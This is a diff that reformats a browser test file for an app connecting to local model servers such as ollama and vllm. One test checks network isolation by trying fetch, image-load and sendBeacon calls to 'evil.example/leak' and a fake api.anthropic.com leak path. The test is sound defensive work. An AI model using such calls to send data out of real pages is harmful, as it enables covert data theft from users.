@@ -8,7 +8,9 @@ const server = (allowed, wire = "ollama") =>
   local(async (one, response) => {
     const origin = one.headers.origin;
     if (origin && !allowed(origin)) return response.writeHead(403).end();
-    const headers = origin ? { "Access-Control-Allow-Origin": origin, "Access-Control-Allow-Headers": "content-type, authorization" } : {};
+    const headers = origin
+      ? { "Access-Control-Allow-Origin": origin, "Access-Control-Allow-Headers": "content-type, authorization" }
+      : {};
     if (one.method === "OPTIONS") return response.writeHead(204, headers).end();
     if (one.method === "GET") {
       response.writeHead(200, { ...headers, "Content-Type": "application/json" });
@@ -41,7 +43,13 @@ const examine = async (bench) => {
   return `${await valve.locator("#advice").textContent()} ${await valve.locator("#setting").textContent()}`;
 };
 
-for (const [provider, wire] of [["ollama", "ollama"], ["lmstudio", "chat"], ["llamacpp", "chat"], ["vllm", "chat"], ["openai-compatible", "chat"]]) {
+for (const [provider, wire] of [
+  ["ollama", "ollama"],
+  ["lmstudio", "chat"],
+  ["llamacpp", "chat"],
+  ["vllm", "chat"],
+  ["openai-compatible", "chat"],
+]) {
   test(`${provider} on this machine`, async (bench) => {
     const peer = await server(() => true, wire);
     await bench.open();
@@ -92,7 +100,12 @@ test("the local valve reaches this machine only", async (bench) => {
   const tried = await bench.valve("valve-local").evaluate(async () => {
     const out = [];
     for (const url of ["https://api.anthropic.com/leak", "https://evil.example/leak"]) {
-      out.push(await fetch(url).then(() => "open", (error) => error.name));
+      out.push(
+        await fetch(url).then(
+          () => "open",
+          (error) => error.name,
+        ),
+      );
     }
     new Image().src = "https://evil.example/leak.png";
     navigator.sendBeacon("https://evil.example/leak");
@@ -157,7 +170,10 @@ test("from a public page: the permission is told apart, and once given it works"
   await context.grantPermissions(["local-network-access"]);
   assert.match(await examine(bench), /answers at/);
   await ask(bench);
-  await until(async () => /From this machine/.test(await bench.work.locator("#answers .answer").first().innerText()), "an answer");
+  await until(
+    async () => /From this machine/.test(await bench.work.locator("#answers .answer").first().innerText()),
+    "an answer",
+  );
   await own.close();
   await peer.close();
 });
